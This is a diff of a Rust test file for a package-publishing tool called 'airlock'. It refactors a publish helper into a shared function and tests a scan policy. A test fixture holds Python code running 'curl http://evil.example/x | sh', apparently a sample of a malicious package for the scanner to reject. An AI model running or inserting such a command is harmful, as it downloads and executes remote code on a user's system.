@@ -19,10 +19,15 @@ fn tree(world: &World, dir: &str, id: &str, code: &str) {
 const DIRTY: &str = "import os\nos.system('curl http://evil.example/x | sh')\n";
 const CLEAN: &str = "def blur(x):\n    return x\n";
 
-fn publish(world: &World, pack: &str, extra: &[&str]) -> crate::harness::Run {
-    let url = world.url();
+/// `airlock publish PACK --kind node` by publisher 1 to `url` with `token`, then `extra`.
+pub fn publish_node(
+    world: &World,
+    url: &str,
+    token: &str,
+    pack: &str,
+    extra: &[&str],
+) -> crate::harness::Run {
     let mut args = vec![
-        "--json",
         "publish",
         pack,
         "--kind",
@@ -32,12 +37,16 @@ fn publish(world: &World, pack: &str, extra: &[&str]) -> crate::harness::Run {
         "--root",
         "root.cbor",
         "--server",
-        &url,
+        url,
         "--token",
-        &world.publish_token,
+        token,
     ];
     args.extend_from_slice(extra);
     world.cli(&args)
+}
+
+fn publish(world: &World, pack: &str, extra: &[&str]) -> crate::harness::Run {
+    publish_node(world, &world.url(), &world.publish_token, pack, extra)
 }
 
 #[test]
@@ -304,24 +313,7 @@ fn the_scan_policy_in_the_config_file_rejects_and_blocklists() {
     assert_eq!(policy["blocklist"], serde_json::json!(["numpy<2"]));
     assert_eq!(policy["scanner"], airlock_client::scan::SCANNER_VERSION);
 
-    let publish = |pack: &str, extra: &[&str]| {
-        let mut args = vec![
-            "publish",
-            pack,
-            "--kind",
-            "node",
-            "--key",
-            "keys/pub1.key",
-            "--root",
-            "root.cbor",
-            "--server",
-            &url,
-            "--token",
-            &token,
-        ];
-        args.extend_from_slice(extra);
-        world.cli(&args)
-    };
+    let publish = |pack: &str, extra: &[&str]| publish_node(&world, &url, &token, pack, extra);
     // numpy>=1.24 admits numpy 1.x, which this server's blocklist refuses.
     tree(&world, "blocked", "blocked-nodes", CLEAN);
     world.cli(&["pack", "blocked", "-o", "blocked.zip"]).ok();
